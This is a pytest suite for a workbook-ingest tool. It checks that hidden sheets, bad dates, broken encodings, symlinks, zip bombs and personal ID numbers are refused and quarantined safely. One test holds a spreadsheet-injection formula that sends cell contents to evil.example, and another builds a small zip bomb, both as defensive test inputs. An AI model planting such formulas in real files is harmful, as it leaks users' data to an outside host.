"""Hostile or unlucky files, as probed for the issue "Nothing wrong is ever published": each is
a real file (an .xlsx written with openpyxl, CSV bytes) run through ``workbook ingest``, and each
ends in a clear refusal with its message code, an exit status, no traceback, and nothing written
outside the store and the quarantine."""

from __future__ import annotations

import argparse
import io
import os
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from helpers.cli.ingest import cmd_ingest
from helpers.common.config import Paths
from helpers.ingest import limits
from helpers.ingest.template import write_template
from helpers.ingest.validate import MASK
from helpers.reference.vocab import load_vocab
from helpers.store.slices import Store
from ingest_support import UNIT

CASES_HEAD = "case_id;unit_id;date;suspects;p21;tppu\n"
GOOD_CASE = f"LKN/01;{UNIT};30/12/2022;2;ya;tidak\n"
REHAB_HEAD = "client_ref;unit_id;admission_date;service;provider;sex;age;voluntary;status;funding\n"
CASE_ROW = ["LKN/01", UNIT, datetime(2022, 12, 30), 2, "ya", "tidak"]


def rehab_row(ref: str, provider: str) -> str:
    return f"{ref};{UNIT};01/02/2022;rawat_jalan;{provider};L;30;ya;selesai;dipa\n"


def run(data: Paths, *inputs: Path) -> tuple[int, str]:
    """``workbook ingest INPUTS --lang en``: exit code and everything printed."""
    args = argparse.Namespace(inputs=list(inputs), year=None, lang="en", check=False)
    out, err = io.StringIO(), io.StringIO()
    code = cmd_ingest(args, data, out, err)
    text = out.getvalue() + err.getvalue()
    assert "Traceback" not in text
    return code, text


def outside(tmp_path: Path, data: Paths) -> set[str]:
    """Every file under ``tmp_path`` that is not in the store or the quarantine."""
    return {p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")
            if not p.is_dir() and data.store_dir not in p.parents
            and data.quarantine_dir not in p.parents}


def quarantine_book(data: Paths) -> openpyxl.Workbook:
    [path] = list(data.quarantine_dir.glob("*.xlsx"))
    return openpyxl.load_workbook(path)


def stored(data: Paths, table: str = "cases", year: int = 2022) -> list[dict]:
    store = Store(data.store_dir)
    if not store.exists() or year not in store.years(table):
        return []
    return store.read(table, year, [UNIT]).to_dict("records")


def workbook(path: Path, sheets: dict[str, list[list[object]]],
             hidden: tuple[str, ...] = ()) -> Path:
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        ws = book.create_sheet(title)
        for row in rows:
            ws.append(row)
        if title in hidden:
            ws.sheet_state = "hidden"
    book.save(path)
    return path


def csv_file(folder: Path, name: str, data: bytes) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data)
    return folder / name


HEAD = ["case_id", "unit_id", "date", "suspects", "p21", "tppu"]


# ---------------------------------------------------------------- sheets (4, 5)


def test_a_hidden_table_sheet_is_named_and_never_replaces_the_visible_one(data, tmp_path):
    (tmp_path / "in").mkdir()
    path = workbook(tmp_path / "in" / "form.xlsx", {
        "cases": [HEAD, ["LKN/99", UNIT, datetime(2022, 5, 1), 9, "ya", "tidak"]],
        "kasus": [HEAD, CASE_ROW]}, hidden=("cases",))
    before = outside(tmp_path, data)
    code, text = run(data, path)
    assert code == 1
    assert "form.xlsx:cases: sheet cases is hidden and was not read" in text
    assert [r["case_id"] for r in stored(data)] == ["LKN/01"]
    assert outside(tmp_path, data) == before


def test_a_hidden_sheet_that_is_no_table_is_only_a_warning(data, tmp_path):
    path = workbook(tmp_path / "form.xlsx", {"kasus": [HEAD, CASE_ROW],
                                             "catatan": [["hitungan"], [1]]}, hidden=("catatan",))
    code, text = run(data, path)
    assert code == 0
    assert "form.xlsx:catatan: warning: sheet catatan is hidden" in text


def test_a_renamed_table_sheet_names_what_it_could_be_and_its_rows_are_quarantined(data,
                                                                                   tmp_path):
    path = workbook(tmp_path / "form.xlsx", {"Kasus 2022": [HEAD, CASE_ROW]})
    code, text = run(data, path)
    assert code == 1
    assert ("form.xlsx:Kasus 2022: sheet Kasus 2022 holds a table's headers but is not named as "
            "a table — rename it to one of: kasus/cases") in text
    assert stored(data) == []
    assert quarantine_book(data)["kasus"]["A2"].value == "LKN/01"


def test_two_visible_sheets_of_one_table_are_both_refused(data, tmp_path):
    path = workbook(tmp_path / "form.xlsx", {"cases": [HEAD, CASE_ROW], "kasus": [HEAD, CASE_ROW]})
    code, text = run(data, path)
    assert code == 1
    assert "table kasus is in more than one sheet (cases, kasus)" in text
    assert stored(data) == []


def test_an_extra_visible_sheet_is_named_not_silently_skipped(data, tmp_path):
    path = workbook(tmp_path / "form.xlsx", {"kasus": [HEAD, CASE_ROW], "Grafik": [["x"]]})
    code, text = run(data, path)
    assert code == 0
    assert "form.xlsx:Grafik: warning: sheet Grafik is not a form sheet and was ignored" in text


# ---------------------------------------------------------------- dates (6, 13)


@pytest.mark.parametrize("when", ["31/12/2099", "31/12/9999"])
def test_a_date_in_the_future_is_refused_per_row_and_makes_no_slice(data, tmp_path, when):
    folder = tmp_path / "in"
    csv_file(folder, "cases.csv", (CASES_HEAD + GOOD_CASE
                                   + f"LKN/02;{UNIT};{when};1;ya;tidak\n").encode())
    code, text = run(data, folder)
    assert code == 1
    assert f"cases.csv:kasus:3:date: date {when} is in the future" in text
    assert Store(data.store_dir).years("cases") == [2022]
    assert quarantine_book(data)["kasus"]["A2"].value == "LKN/02"


def test_an_excel_date_cell_in_year_9999_does_not_crash(data, tmp_path):
    path = workbook(tmp_path / "form.xlsx", {
        "kasus": [HEAD, CASE_ROW, ["LKN/02", UNIT, datetime(9999, 12, 31), 1, "ya", "tidak"]]})
    code, text = run(data, path)
    assert code == 1
    assert "form.xlsx:kasus:3:date: date 31/12/9999 is in the future" in text
    assert Store(data.store_dir).years("cases") == [2022]


def test_a_date_before_bnn_existed_is_refused(data, tmp_path):
    folder = tmp_path / "in"
    csv_file(folder, "cases.csv", (CASES_HEAD + f"LKN/02;{UNIT};01/01/1990;1;ya;tidak\n").encode())
    code, text = run(data, folder)
    assert code == 1
    assert "cases.csv:kasus:2:date: date 01/01/1990 is before 01/01/2002" in text
    assert stored(data) == []


def test_a_target_year_far_ahead_is_refused(data, tmp_path):
    folder = tmp_path / "in"
    csv_file(folder, "targets.csv",
             f"unit_id;year;indicator;target;realisation\n{UNIT};2099;ikotan;60;61\n".encode())
    code, text = run(data, folder)
    assert code == 1
    assert "targets.csv:target_kinerja:2:year: year 2099 is outside 2002–" in text
    assert stored(data, "targets", 2099) == []


# ---------------------------------------------------------------- encodings (7)


def test_a_stray_windows_1252_byte_does_not_turn_a_utf8_file_into_mojibake(data, tmp_path):
    folder = tmp_path / "in"
    body = (REHAB_HEAD + rehab_row("RJ-1", "Klinik Café")).encode() + rehab_row(
        "RJ-2", "Klinik Caf\xe9").encode("cp1252")
    csv_file(folder, "rehab.csv", body)
    code, text = run(data, folder)
    assert code == 1
    assert "rehab.csv: warning: the UTF-8 file holds 1 byte(s) that are not UTF-8 (lines 3)" in text
    assert "rehab.csv:rehabilitasi:3:provider: text 'Klinik Caf\ufffd' holds an unreadable" in text
    assert [r["provider"] for r in stored(data, "rehab")] == ["Klinik Café"]


def test_a_windows_1252_file_is_still_read_as_windows_1252(data, tmp_path):
    folder = tmp_path / "in"
    csv_file(folder, "rehab.csv", (REHAB_HEAD + rehab_row("RJ-1", "Klinik Café")).encode("cp1252"))
    code, _ = run(data, folder)
    assert code == 0
    assert [r["provider"] for r in stored(data, "rehab")] == ["Klinik Café"]


def test_a_nul_byte_after_the_first_4kb_refuses_the_file(data, tmp_path):
    folder = tmp_path / "in"
    rows = "".join(f"LKN/{n};{UNIT};30/12/2022;2;ya;tidak\n" for n in range(200))
    csv_file(folder, "cases.csv", (CASES_HEAD + rows + f"LKN/X\x00;{UNIT};30/12/2022;1;ya;"
                                   "tidak\n").encode())
    code, text = run(data, folder)
    assert code == 1
    assert "cases.csv: the file holds a NUL byte (line 202)" in text
    assert stored(data) == []


def test_a_utf16_csv_from_excel_unicode_text_is_read(data, tmp_path):
    folder = tmp_path / "in"
    text = (CASES_HEAD + GOOD_CASE).replace(";", "\t")
    csv_file(folder, "cases.csv", text.encode("utf-16"))
    code, out = run(data, folder)
    assert code == 0, out
    assert [r["case_id"] for r in stored(data)] == ["LKN/01"]


def test_a_utf16_csv_without_bom_is_refused_with_its_own_message(data, tmp_path):
    folder = tmp_path / "in"
    csv_file(folder, "cases.csv", (CASES_HEAD + GOOD_CASE).encode("utf-16-le"))
    code, text = run(data, folder)
    assert code == 1
    assert "cases.csv: the file looks like UTF-16 without a byte-order mark" in text


# ---------------------------------------------------------------- formulas (9)


def test_formula_text_is_refused_and_never_live_in_the_quarantine(data, tmp_path):
    folder = tmp_path / "in"
    evil = '=HYPERLINK("http://evil.example/?"&A3,"klik")'
    csv_file(folder, "cases.csv", (CASES_HEAD + f"{evil};{UNIT};30/12/2022;@SUM(1);ya;tidak\n"
                                   ).encode())
    code, text = run(data, folder)
    assert code == 1
    assert "cases.csv:kasus:2:case_id: text '=HYPERLINK" in text
    [path] = list(data.quarantine_dir.glob("*.xlsx"))
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) for n in sheets)
    ws = openpyxl.load_workbook(path)["kasus"]
    assert ws["A2"].value == evil and ws["A2"].data_type == "s"
    assert ws["D2"].value == "@SUM(1)" and ws["D2"].data_type == "s"


def test_a_formula_without_a_cached_value_says_so(data, tmp_path):
    path = workbook(tmp_path / "form.xlsx", {
        "kasus": [HEAD, ["LKN/01", UNIT, datetime(2022, 12, 30), "=1+1", "ya", "tidak"]]})
    code, text = run(data, path)
    assert code == 1
    assert "form.xlsx:kasus:2:suspects: the cell holds a formula whose result was never" in text


# ---------------------------------------------------------------- files (10, dot files)


def test_a_symlink_in_a_folder_is_refused_and_its_target_never_copied(data, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text(CASES_HEAD + "RAHASIA;x;x;x;x;x\n")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "cases.csv").symlink_to(secret)
    code, text = run(data, folder)
    assert code == 1
    assert "cases.csv: a symbolic link is not read" in text
    assert not data.quarantine_dir.exists() or not any(data.quarantine_dir.iterdir())


def test_a_symlink_named_explicitly_is_refused_too(data, tmp_path):
    target = csv_file(tmp_path / "real", "cases.csv", (CASES_HEAD + GOOD_CASE).encode())
    link = tmp_path / "cases.csv"
    link.symlink_to(target)
    code, text = run(data, link, target)
    assert code == 1
    assert f"{link}: a symbolic link is not read" in text
    assert [r["case_id"] for r in stored(data)] == ["LKN/01"]


def test_a_named_pipe_in_a_folder_is_refused_without_blocking(data, tmp_path):
    folder = tmp_path / "in"
    csv_file(folder, "cases.csv", (CASES_HEAD + GOOD_CASE).encode())
    os.mkfifo(folder / "rehab.csv")
    code, text = run(data, folder)
    assert code == 1
    assert "rehab.csv: not a regular file" in text


def test_hidden_and_lock_files_are_named_when_skipped(data, tmp_path):
    folder = tmp_path / "in"
    csv_file(folder, "cases.csv", (CASES_HEAD + GOOD_CASE).encode())
    csv_file(folder, ".rehab.csv", b"x")
    csv_file(folder, "~$form.xlsx", b"x")
    code, text = run(data, folder)
    assert code == 0
    assert text.count("warning: hidden file or Excel lock file (~$), skipped") == 2


# ---------------------------------------------------------------- personal data (11)


@pytest.mark.parametrize("nik", ["3201234567890123", "3201 2345 6789 0123"])
def test_a_nik_in_a_free_text_column_is_refused_and_masked(data, tmp_path, nik):
    folder = tmp_path / "in"
    csv_file(folder, "rehab.csv", (REHAB_HEAD + rehab_row(
        "RJ-1", f"Klinik dr. Budi Santoso NIK {nik}")).encode())
    code, text = run(data, folder)
    assert code == 1
    assert "rehab.csv:rehabilitasi:2:provider: the cell holds a NIK-shaped number" in text
    assert nik not in text
    assert stored(data, "rehab") == []
    assert quarantine_book(data)["rehabilitasi"]["E2"].value == MASK


# ---------------------------------------------------------------- sizes (14, messages)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(data, tmp_path):
    path = workbook(tmp_path / "form.xlsx", {"kasus": [HEAD, CASE_ROW]})
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/padding.xml", b" " * (12 * 1024 * 1024))
    code, text = run(data, path)
    assert code == 1
    assert "form.xlsx: the Excel file is abnormal: xl/media/padding.xml expands" in text
    assert stored(data) == []


def test_a_file_over_the_size_limit_is_refused_unread(data, tmp_path, monkeypatch):
    monkeypatch.setattr(limits, "MAX_FILE_BYTES", 1024 * 1024)
    folder = tmp_path / "in"
    csv_file(folder, "cases.csv", (CASES_HEAD + GOOD_CASE * 40_000).encode())
    code, text = run(data, folder)
    assert code == 1
    assert "cases.csv: the file is too large (" in text and "limit 1 MB" in text


def test_a_one_megabyte_cell_is_refused_in_its_row_and_quarantined(data, tmp_path):
    folder = tmp_path / "in"
    big = "x" * 1_000_000
    csv_file(folder, "cases.csv", (CASES_HEAD + GOOD_CASE + f"{big};{UNIT};30/12/2022;1;ya;"
                                   "tidak\n").encode())
    code, text = run(data, folder)
    assert code == 1
    assert "cases.csv:kasus:3:case_id: the cell is too long (1000000 characters" in text
    assert [r["case_id"] for r in stored(data)] == ["LKN/01"]
    assert len(quarantine_book(data)["kasus"]["A2"].value) == limits.MAX_CELL_CHARS + 1


def test_the_template_never_writes_a_live_formula(tmp_path):
    form = write_template(tmp_path / "form.xlsx", load_vocab(), ['=HYPERLINK("http://x","y")'])
    with zipfile.ZipFile(form) as archive:
        assert not any(b"<f>" in archive.read(n) for n in archive.namelist()
                       if n.startswith("xl/worksheets/"))
    assert openpyxl.load_workbook(form)["_daftar"]["K2"].data_type == "s"
